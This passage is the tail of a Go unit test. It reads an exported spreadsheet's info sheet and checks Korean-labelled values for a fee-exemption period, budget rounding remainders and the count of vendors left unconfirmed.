	for _, row := range rawRows(t, f, exports.InfoSheet) {
		if len(row) >= 2 {
			info[row[0]] = row[1]
		}
	}
	if info["수수료 면제 기간"] != "2025-10-21 ~ 2025-11-20" || info["끝수 합계 (10원 미만, 예산 잔류)"] != "9" || info["예산 부족으로 미확정된 업체 수"] != "1" {
		t.Errorf("정보 %v", info)
	}
}
